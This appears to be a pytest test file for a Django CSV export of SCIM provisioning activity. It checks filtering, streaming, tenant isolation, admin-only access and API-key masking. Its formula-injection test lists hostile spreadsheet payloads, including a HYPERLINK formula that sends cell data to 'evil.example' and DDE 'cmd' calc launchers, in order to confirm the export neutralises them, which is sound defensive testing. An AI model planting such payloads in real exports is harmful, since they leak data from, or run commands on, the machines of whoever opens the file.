"""The CSV export of the activity: content, filter, streaming, tenancy, injection."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from integrations.exports.activity import EXPORT_HEADER
from integrations.exports.kinds import EXPORT_CHUNK_SIZE
from integrations.models import ProvisioningEvent
from integrations.services import provisioning_event_record
from tests.factories import LearnerFactory, member_changes
from tests.scim.conftest import BASE, ScimClient

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("integrations:provisioning_activity_export", kwargs={"provider": "entra-id"})
Outcome = ProvisioningEvent.Outcome
T0 = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)


def download(client, query: str = "") -> tuple[StreamingHttpResponse, list[list[str]]]:
    response = client.get(f"{EXPORT_URL}?{query}" if query else EXPORT_URL)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads the file as UTF-8
    return response, list(csv.reader(io.StringIO(body[1:])))


def record(company, name, *, at, outcome=Outcome.SUCCESS, **kw):
    fields = {
        "method": "POST",
        "path": f"{BASE}/Users",
        "operation": "create_user",
        "resource_type": "User",
        "status_code": 201 if outcome == Outcome.SUCCESS else 409,
        **kw,
    }
    return provisioning_event_record(
        company_id=company.pk,
        api_key_id=None,
        outcome=outcome,
        resource_name=name,
        now=at,
        **fields,
    )


def test_the_export_is_a_streamed_csv_attachment_of_the_log_newest_first(admin_client, company):
    record(company, "alice@contoso.com", at=T0, resource_id="42", duration_ms=12)
    record(
        company,
        "bob@contoso.com",
        at=T0 + timedelta(minutes=1),
        outcome=Outcome.FAILED,
        scim_type="uniqueness",
        detail="userName bob@contoso.com is already taken.",
    )
    record(
        company,
        "Sales",
        at=T0 + timedelta(minutes=2),
        operation="add_members",
        resource_type="Group",
        method="PATCH",
        path=f"{BASE}/Groups/7",
        status_code=204,
        changes=member_changes(added=3),
    )

    response, rows = download(admin_client)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(
        'attachment; filename="provisioning-activity-entra-id-'
    )
    assert response["Cache-Control"] == "no-store"
    assert rows[0] == EXPORT_HEADER
    assert rows[1:] == [
        [
            "2026-11-20 09:32:00",
            "Added 3 members to Sales",
            "add_members",
            "Group",
            "Sales",
            "",
            "Success",
            "204",
            "",
            "3 members added",
            "PATCH",
            f"{BASE}/Groups/7",
            "",
            "0",
        ],
        [
            "2026-11-20 09:31:00",
            "Create person bob@contoso.com",
            "create_user",
            "User",
            "bob@contoso.com",
            "",
            "Failed",
            "409",
            "uniqueness",
            "userName bob@contoso.com is already taken.",
            "POST",
            f"{BASE}/Users",
            "",
            "0",
        ],
        [
            "2026-11-20 09:30:00",
            "Created person alice@contoso.com",
            "create_user",
            "User",
            "alice@contoso.com",
            "42",
            "Success",
            "201",
            "",
            "",
            "POST",
            f"{BASE}/Users",
            "",
            "12",
        ],
    ]


def test_the_export_follows_the_current_filter(admin_client, company):
    record(company, "alice@contoso.com", at=T0)
    record(company, "bob@contoso.com", at=T0, outcome=Outcome.FAILED)
    record(company, "Bob@Contoso.com", at=T0, operation="deactivate_user")

    _, rows = download(admin_client, "outcome=failed")
    assert [row[1] for row in rows[1:]] == ["Create person bob@contoso.com"]
    _, rows = download(admin_client, "q=BOB%40contoso.com&outcome=success")
    assert [row[1] for row in rows[1:]] == ["Deactivated Bob@Contoso.com"]
    _, rows = download(admin_client, "operation=create_user&resource_type=Group")
    assert rows == [EXPORT_HEADER]


def test_a_real_scim_request_is_exported_with_its_key_prefix_and_never_the_key(
    admin_client, company, generated_key
):
    ScimClient(HTTP_AUTHORIZATION=f"Bearer {generated_key.plaintext}").post_json(
        f"{BASE}/Users", {"userName": "carol@contoso.com"}
    )
    response = admin_client.get(EXPORT_URL)
    body = b"".join(response.streaming_content).decode()
    assert generated_key.plaintext not in body
    assert generated_key.api_key.masked not in body  # the prefix only, as in the audit trail
    row = list(csv.reader(io.StringIO(body[1:])))[1]
    assert row[1] == "Created person carol@contoso.com"
    assert row[12] == generated_key.api_key.prefix


def test_rows_are_streamed_in_chunks_not_built_in_memory(admin_client, company):
    ProvisioningEvent.objects.bulk_create(
        ProvisioningEvent(
            company=company,
            method="GET",
            path=f"{BASE}/Users",
            operation="list_users",
            status_code=200,
            outcome=Outcome.SUCCESS,
            created_at=T0 - timedelta(seconds=i),
        )
        for i in range(EXPORT_CHUNK_SIZE + 10)
    )
    response = admin_client.get(EXPORT_URL)
    assert response.streaming
    chunks = list(response.streaming_content)
    # The header, one chunk of EXPORT_CHUNK_SIZE rows, then the rest.
    assert len(chunks) == 3
    assert chunks[1].count(b"\r\n") == EXPORT_CHUNK_SIZE
    assert chunks[2].count(b"\r\n") == 10


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_cells_that_look_like_formulas_are_neutralised(admin_client, company, dangerous):
    record(
        company,
        dangerous,
        at=T0,
        outcome=Outcome.FAILED,
        detail=dangerous,
        scim_type=dangerous[:32],
    )
    _, rows = download(admin_client)
    row = dict(zip(EXPORT_HEADER, rows[1], strict=True))
    assert row["Resource name"] == "'" + dangerous
    assert row["Detail"] == "'" + dangerous
    assert row["SCIM error type"] == "'" + dangerous[:32]
    # The sentence starts with words, so it is safe as it is.
    assert row["Activity"].startswith("Create person ")
    for value in rows[1]:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_another_companys_activity_is_never_exported(
    admin_client, company, other_company, other_generated_key
):
    record(company, "alice@contoso.com", at=T0)
    ScimClient(HTTP_AUTHORIZATION=f"Bearer {other_generated_key.plaintext}").post_json(
        f"{BASE}/Users", {"userName": "secret@fabrikam.com"}
    )
    for query in ("", "q=secret%40fabrikam.com", "operation=create_user"):
        _, rows = download(admin_client, query)
        assert all("fabrikam" not in cell for row in rows for cell in row)
    # The other company's admin gets their own row only.
    _, rows = download(admin_client, "q=alice%40contoso.com")
    assert len(rows) == 2


def test_only_company_admins_can_export(client, company):
    record(company, "alice@contoso.com", at=T0)
    response = client.get(EXPORT_URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))
    client.force_login(LearnerFactory(company=company))
    assert client.get(EXPORT_URL).status_code == 403
